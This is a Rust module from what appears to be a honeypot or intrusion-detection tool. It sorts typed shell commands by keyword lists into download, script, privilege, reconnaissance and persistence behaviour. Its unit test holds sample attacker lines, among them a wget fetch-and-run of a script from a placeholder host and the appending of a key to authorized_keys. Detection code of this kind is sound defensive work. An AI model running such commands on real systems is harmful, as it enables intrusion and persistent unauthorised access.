//! Command features, plus `mean_command_length` (statistical) and `command_entropy`
//! (behavioral), which read the same command strings.

use super::{Out, Window, entropy_bits, hashed_runs, ln1p, share};
use crate::EventKind;
use crate::schema::F;

const DOWNLOAD_TOOLS: [&str; 9] =
    ["wget", "curl", "tftp", "ftpget", "ftp", "scp", "sftp", "fetch", "lwp-download"];
const INTERPRETERS: [&str; 18] = [
    "sh", "bash", "ash", "dash", "zsh", "ksh", "busybox", "python", "python2", "python3", "perl",
    "php", "ruby", "node", "lua", "source", "exec", "eval",
];
const PRIVILEGE_WORDS: [&str; 8] =
    ["sudo", "su", "passwd", "chpasswd", "useradd", "adduser", "usermod", "visudo"];
const PRIVILEGE_TEXT: [&str; 4] = ["/etc/shadow", "/etc/sudoers", "chmod +s", "chmod u+s"];
const RECON_WORDS: [&str; 18] = [
    "uname",
    "whoami",
    "id",
    "w",
    "who",
    "last",
    "ps",
    "free",
    "df",
    "lscpu",
    "nproc",
    "ifconfig",
    "netstat",
    "hostname",
    "uptime",
    "lspci",
    "dmidecode",
    "getconf",
];
const RECON_TEXT: [&str; 4] = ["/proc/cpuinfo", "/proc/meminfo", "/etc/issue", "/etc/os-release"];
const PERSISTENCE_TEXT: [&str; 9] = [
    "crontab",
    "/etc/cron",
    "authorized_keys",
    ".bashrc",
    ".profile",
    "rc.local",
    "/etc/init.d",
    "systemctl enable",
    "chattr",
];

/// What one command line does, by the lists above: one flag per behaviour.
#[derive(Clone, Copy)]
enum Does {
    Download,
    Script,
    Privilege,
    Recon,
    Persistence,
}

/// The set of [`Does`] flags of a command line, as bits.
#[derive(Default, Clone, Copy)]
struct Class(u8);

impl Class {
    fn set(&mut self, what: Does, yes: bool) {
        self.0 |= u8::from(yes) << what as u8;
    }
    fn has(self, what: Does) -> bool {
        self.0 & (1 << what as u8) != 0
    }
}

fn classify(cmd: &str) -> Class {
    let mut c = Class::default();
    for token in cmd
        .split(|ch: char| ch.is_whitespace() || ";|&()`$<>\"'{}".contains(ch))
        .filter(|t| !t.is_empty())
    {
        let word = token.rsplit('/').next().unwrap_or(token);
        c.set(Does::Download, DOWNLOAD_TOOLS.contains(&word));
        c.set(Does::Script, INTERPRETERS.contains(&word) || token.starts_with("./"));
        c.set(Does::Privilege, PRIVILEGE_WORDS.contains(&word));
        c.set(Does::Recon, RECON_WORDS.contains(&word));
    }
    c.set(Does::Privilege, PRIVILEGE_TEXT.iter().any(|t| cmd.contains(t)));
    c.set(Does::Recon, RECON_TEXT.iter().any(|t| cmd.contains(t)));
    c.set(Does::Persistence, PERSISTENCE_TEXT.iter().any(|t| cmd.contains(t)));
    c
}

pub(super) fn fill(w: &Window<'_>, out: &mut Out) {
    let t = &w.tally;
    let (typed, failed) = (t.kind(EventKind::Command), t.kind(EventKind::CommandFailed));
    out.set(F::command_count, ln1p(typed as f64));
    out.set(F::failed_command_fraction, share(failed, typed.max(failed)));
    out.set(F::file_download_count, ln1p(t.kind(EventKind::FileDownload) as f64));
    out.set(F::file_upload_count, ln1p(t.kind(EventKind::FileUpload) as f64));
    if typed == 0 {
        return;
    }
    let commands = hashed_runs(
        w.ev.iter()
            .filter(|e| e.kind == EventKind::Command)
            .filter_map(|e| e.command.as_deref())
            .map(str::trim),
    );
    // Commands doing each [`Does`], by its discriminant.
    let mut doing = [0usize; 5];
    let mut chars = 0;
    let mut counts = Vec::new();
    for run in commands.chunk_by(|a, b| a.0 == b.0) {
        let (k, c) = (run.len(), classify(run[0].1));
        counts.push(k);
        for what in [Does::Download, Does::Script, Does::Privilege, Does::Recon, Does::Persistence]
        {
            doing[what as usize] += k * usize::from(c.has(what));
        }
        chars += k * run[0].1.chars().count();
    }
    out.set(F::unique_commands, ln1p(counts.len() as f64));
    out.set(F::command_entropy, entropy_bits(counts.into_iter(), commands.len()));
    out.set(F::download_tool_fraction, share(doing[Does::Download as usize], typed));
    out.set(F::script_execution_fraction, share(doing[Does::Script as usize], typed));
    out.set(F::privilege_escalation_fraction, share(doing[Does::Privilege as usize], typed));
    out.set(F::recon_command_fraction, share(doing[Does::Recon as usize], typed));
    out.set(F::persistence_command_fraction, share(doing[Does::Persistence as usize], typed));
    if !commands.is_empty() {
        out.set(F::mean_command_length, ln1p(chars as f64 / commands.len() as f64));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_not_substrings() {
        use Does::*;
        let c = classify("cd /tmp; wget http://x/y.sh; chmod +x y.sh; ./y.sh");
        assert!(
            c.has(Download)
                && c.has(Script)
                && !c.has(Privilege)
                && !c.has(Recon)
                && !c.has(Persistence)
        );
        // "sshd" and "finish" contain "sh" but run no shell; "identify" is not "id".
        let c = classify("cat /var/run/sshd.pid finish identify");
        assert_eq!(c.0, 0);
        let c = classify("/usr/bin/sudo /bin/su -");
        assert!(c.has(Privilege) && !c.has(Script));
        assert!(classify("cat /proc/cpuinfo | grep name | wc -l").has(Recon));
        assert!(classify("echo key >> ~/.ssh/authorized_keys").has(Persistence));
    }
}
